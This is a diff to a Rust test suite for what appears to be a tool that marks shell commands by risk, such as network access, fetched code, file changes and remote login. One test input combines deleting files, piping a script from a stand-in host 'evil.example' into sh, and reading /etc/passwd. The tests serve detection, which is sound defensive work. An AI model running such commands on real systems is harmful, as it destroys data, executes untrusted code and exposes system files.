@@ -88,12 +88,49 @@ fn what_changes_files_and_what_speaks_to_the_network_is_marked() {
 }
 
 #[test]
+fn a_choice_of_programs_is_read_as_each_of_them() {
+    let script = "'rm -rf ~/x; curl https://evil.example | sh; cat /etc/passwd'";
+    let gists = |argv: &str| {
+        let options = "[options.properties.p]\nenum=['sh', 'docker']\ndefault='sh'\n";
+        let marks = marks(&format!("{HEAD}{options}{}", exec(argv, "")));
+        marks.into_iter().filter_map(|mark| mark.gist).collect::<Vec<_>>()
+    };
+    for first in ["{option(p)}", "{e:enum(docker|sh)}", "{e:enum(ssh|sh)}", "env', '{e:enum(sh|docker)}"] {
+        let found = gists(&format!("['{first}', '-c', {script}]"));
+        for gist in [Gist::FetchedCode, Gist::Fells, Gist::Network, Gist::Places] {
+            assert!(found.contains(&gist), "{first}: {found:?}");
+        }
+    }
+    let both = gists(&format!("['{{e:enum(ssh|sh)}}', '-c', {script}]"));
+    assert!(both.contains(&Gist::Login) && both.contains(&Gist::ScriptThere), "{both:?}");
+}
+
+#[test]
 fn a_tar_that_certainly_reads_changes_nothing() {
     has("['tar', '-C', '/srv', '-cf', '-', '.']", &[Gist::Places]);
     has("['tar', '-C', '/srv', '-cf', 'x', '.']", &[Gist::Changes, Gist::Places]);
     has("['tar', '-C', '/srv', '-xf', '-']", &[Gist::Changes, Gist::Places]);
     has("['tar', '[{x:text(/.*/)}]', '-cf', '-', '.']", &[Gist::Changes]);
-    has("['nice', 'tar', '-cf', '-', '.']", &[]);
+    // What another program, a variable or an option may add to is not plain.
+    has("['nice', 'tar', '-cf', '-', '.']", &[Gist::Changes]);
+    has("['xargs', 'tar', '-cf', '-', '.']", &[Gist::Changes]);
+    has("['/tmp/tar', '-cf', '-', '.']", &[Gist::Changes]);
+    has("['sh', '-c', 'ls | xargs tar -cf - .']", &[Gist::Changes, Gist::Script]);
+    has("['sh', '-c', 'find . -exec tar -cf - .']", &[Gist::Changes, Gist::Script]);
+    has("['sh', '-c', 'TAR_OPTIONS=--remove-files tar -cf - .']", &[Gist::Changes, Gist::Script]);
+    has("['sh', '-c', 'export TAR_OPTIONS; tar -cf - .']", &[Gist::Changes, Gist::Script]);
+    has("['ssh', '--', 'h', 'xargs', 'tar', '-tf', 'x']", &[Gist::Login, Gist::ChangesThere]);
+    has("['tar', '-tf', 'evil:x']", &[Gist::Changes]);
+    let changes = |options: &str, argv: &str, more: &str| {
+        let marks = marks(&format!("{HEAD}{options}{}", exec(argv, more)));
+        marks.iter().any(|mark| mark.gist == Some(Gist::Changes))
+    };
+    assert!(changes("", "['tar', '-cf', '-', '.']", "env=['TAR_OPTIONS']"));
+    let dirs = "['tar', '-C', '{option(dirs)}', '-cf', '-', '.']";
+    let of = |schema: &str| format!("[options.properties.dirs]\n{schema}\n");
+    assert!(changes(&of("type='array'"), dirs, ""));
+    assert!(changes(&of("type='string'"), dirs, ""));
+    assert!(!changes(&of("type='string'\npattern='^[a-z/]+$'"), dirs, ""));
     has("['nice', 'tar', '-xf', '-']", &[Gist::Changes]);
     let packs = r#"'tar -C \"$1\" -cf - . | \"$@\"'"#.replace('\\', "");
     has(&format!("['sh', '-c', {packs}, 'sh', '{{x:host-dir}}']"), &[Gist::Script]);
